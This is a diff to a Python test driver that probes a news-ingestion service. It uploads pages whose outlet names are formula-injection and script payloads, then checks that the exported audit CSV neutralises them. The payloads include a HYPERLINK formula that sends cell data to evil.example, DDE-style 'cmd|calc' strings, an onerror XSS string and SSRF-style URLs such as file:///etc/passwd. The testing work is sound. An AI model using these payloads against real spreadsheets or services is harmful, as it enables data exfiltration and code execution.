@@ -2,7 +2,7 @@
 tried, their outcomes and slowest answer, and overall: 5xx answers, requests past their deadline, jobs that never
 settled, uploads whose raw capture did not come back byte for byte, and the service's RSS (baseline, peak, after).
 usage: driver.py SERVICE_URL ORIGIN_URL ADMIN_KEY SERVICE_PID"""
-import collections, concurrent.futures as cf, hashlib, json, sys, threading, time, urllib.error, urllib.parse, urllib.request
+import collections, concurrent.futures as cf, csv, hashlib, io, json, random, sys, threading, time, urllib.error, urllib.parse, urllib.request
 
 service, origin, key, pid = sys.argv[1], sys.argv[2], sys.argv[3], int(sys.argv[4])
 DEADLINE = 180
@@ -116,19 +116,29 @@ for enc in ("x-hostile", "zstd", "gzip", "br", "deflate, x-other", "identity, gz
     fetch("header shapes (fetch)", f"/encoding/{urllib.parse.quote(enc)}")
 for n in range(10):
     fetch("header shapes (fetch)", f"/ctype/{n}")
-# CSV names: formula-shaped outlet names, then every CSV row checked
+# CSV names: formula-shaped outlet names on ten copies of one story, so the audit CSV lists them as republications;
+# then every cell of that CSV is checked, and the names must be in it (an empty CSV would prove nothing).
 names = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+cmd|calc!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)", "\t=1+1", "\r=1+1",
          "＝1+1", " =1+1", "=1+1", "Evil <img src=x onerror=alert(1)>"]
+words = ("council harbour river budget school storm market bridge election court station museum festival hospital railway "
+         "factory farmers teachers minister mayor police report vote plan funding residents library coast winter").split()
+rnd = random.Random(10)
+story = "".join("<p>" + " ".join(rnd.choice(words) for _ in range(45)).capitalize() + f" (part {i}).</p>" for i in range(8))
 for i, name in enumerate(names):
-    html = (f"<html><head><meta property=\"og:site_name\" content=\"{name.replace(chr(34), '&quot;')}\"><title>Story</title></head>"
-            f"<body><article><p>{'The same syndicated story about the harbour budget. ' * 30}</p></article></body></html>")
+    html = (f"<html><head><meta property=\"og:site_name\" content=\"{name.replace(chr(34), '&quot;')}\"><title>Harbour budget</title>"
+            f"<meta property=\"article:published_time\" content=\"2026-11-{i + 1:02d}T08:00:00Z\"></head>"
+            f"<body><article><h1>Harbour budget</h1>{story}</article></body></html>")
     upload("CSV names (upload)", f"https://csv{i}.example/story", html)
 status, body, _, secs = call("GET", "/api/audit/republications?format=csv")
-cells = [c for line in body.decode("utf-8", "replace").splitlines()[1:] for c in line.split(",")]
-bad = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r", "＝")]
-record("CSV names (upload)", f"csv {status}, {len(cells)} cells, {len(bad)} formula cells", secs)
+rows = list(csv.reader(io.StringIO(body.decode("utf-8", "replace"), newline="")))[1:] if status == 200 else []
+cells = [c for row in rows for c in row]
+bad = [c for c in cells if c.lstrip()[:1] in ("=", "+", "-", "@", "＝") or c[:1] in ("\t", "\r")]
+found = [n for n in names if any(c.lstrip("'").strip() == n.strip() for c in cells)]
+record("CSV names (upload)", f"csv {status}, {len(rows)} rows, {len(found)} of {len(names)} names, {len(bad)} formula cells", secs)
 if bad:
     problems["formula cells in CSV"] += len(bad)
+if not rows or not found:
+    problems["CSV probe read no hostile names (proves nothing)"] += 1
 # URL spellings
 urls = ["https://münchen.example/a", "https://例え.テスト/記事", "http://xn--mnchen-3ya.example/ß", "http://127.0.0.1:1/", "http://[::1]/",
         "http://0x7f.0.0.1/", "http://2130706433/", "http://user:pw@example.com/", "javascript:alert(1)", "file:///etc/passwd",
